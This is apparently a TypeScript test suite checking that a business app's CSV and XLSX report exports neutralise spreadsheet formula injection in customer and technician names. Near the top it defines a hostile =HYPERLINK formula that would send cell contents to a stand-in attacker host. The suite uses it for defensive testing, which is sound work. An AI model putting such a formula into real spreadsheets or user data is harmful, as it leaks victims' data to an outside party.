import { sql } from 'drizzle-orm'
import ExcelJS from 'exceljs'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { queryRows } from '../../db/client'
import { withTenant } from '../../db/with-tenant'
import { call } from '../../test/api'
import { createTestApp, type TestApp } from '../../test/build-app'
import { buildCompany, type TestUser } from '../../test/factories'
import { getAt, PERIODO, prepararEmpresa } from './relatorios-fixtures'

// Names a user typed that a spreadsheet would run as formulas (OWASP "CSV Injection").
const HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1;"Clique aqui")'
const SOMA = '+SOMA(1;1)'

let t: TestApp
let admin: TestUser
beforeAll(async () => {
  t = await createTestApp()
  const empresa = await buildCompany(t)
  admin = empresa.admin
  const { tecnicos } = await prepararEmpresa(t, empresa.empresaId)
  const [clienteDois] = await withTenant(t.handle.db, { empresaId: empresa.empresaId }, (tx) =>
    queryRows<{ id: string }>(tx, sql`select id from clientes where nome_razao = 'Cliente Dois'`),
  )
  // Renamed through the API: what a user can type is what the export must survive.
  const renomear = [
    await call(t, admin, 'PATCH', `/api/clientes/${clienteDois.id}`, { nome_razao: HYPERLINK }),
    await call(t, admin, 'PATCH', `/api/tecnicos/${tecnicos.ana}`, { nome: SOMA }),
  ]
  for (const res of renomear) expect(res.statusCode, res.body).toBe(200)
})
afterAll(() => t.close())

const linhasCsv = (body: string) =>
  body
    .replace(/^\uFEFF/, '')
    .replace(/\u00a0/g, ' ')
    .split(/\r?\n/)
    .filter(Boolean)

describe('report exports with hostile names', () => {
  it('neutralises a customer named =HYPERLINK(...) in the overdue titles CSV (receivables)', async () => {
    const res = await getAt(
      t,
      admin,
      `/api/relatorios/financeiro/exportar${PERIODO}&tabela=vencidos&formato=csv`,
    )
    expect(res.statusCode, res.body).toBe(200)
    expect(linhasCsv(res.body).slice(0, 2)).toEqual([
      'OS;Parcela;Cliente;Telefone;Vencimento;Dias em atraso;Saldo',
      `OS-TESTE-06;1/1;"'=HYPERLINK(""http://evil.example/?d=""&A1;""Clique aqui"")";(11) 3333-4444;01/10/2025;132;R$ 40,00`,
    ])
  })

  it('writes the same name as a text cell, not a formula, in XLSX', async () => {
    const res = await getAt(
      t,
      admin,
      `/api/relatorios/financeiro/exportar${PERIODO}&tabela=vencidos&formato=xlsx`,
    )
    expect(res.statusCode, res.body).toBe(200)
    const wb = new ExcelJS.Workbook()
    await wb.xlsx.load(res.rawPayload as unknown as ArrayBuffer)
    const celula = wb.worksheets[0].getRow(2).getCell(3)
    expect(celula.type).toBe(ExcelJS.ValueType.String)
    expect(celula.formula).toBeUndefined()
    expect(celula.value).toBe(HYPERLINK)
  })

  it('neutralises a technician named +SOMA(...) in the service report CSV', async () => {
    const res = await getAt(
      t,
      admin,
      `/api/relatorios/servico/exportar${PERIODO}&tabela=por_tecnico&formato=csv`,
    )
    expect(res.statusCode, res.body).toBe(200)
    expect(linhasCsv(res.body)).toEqual([
      'Técnico;OS concluídas;Receita;Tempo médio (dias)',
      `"'+SOMA(1;1)";2;R$ 300,00;12`,
      'Bruno;1;R$ 300,00;5',
      'Sem técnico;1;R$ 50,00;11',
    ])
  })
})
